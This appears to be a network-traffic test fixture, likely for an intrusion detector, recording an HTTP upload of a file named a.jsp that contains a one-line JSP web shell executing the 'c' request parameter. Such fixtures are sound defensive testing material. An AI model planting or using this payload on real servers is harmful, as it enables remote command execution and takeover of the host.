# JSP source that starts a process uploaded.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /upload HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: multipart/form-data; boundary=b1\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 137\r\n
\r\n
--b1\r\n
Content-Disposition: form-data; name="f"; filename="a.jsp"\r\n
\r\n
\x3c% Runtime.getRuntime().exec(request.getParameter("c")); %>\r\n
--b1--\r\n

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
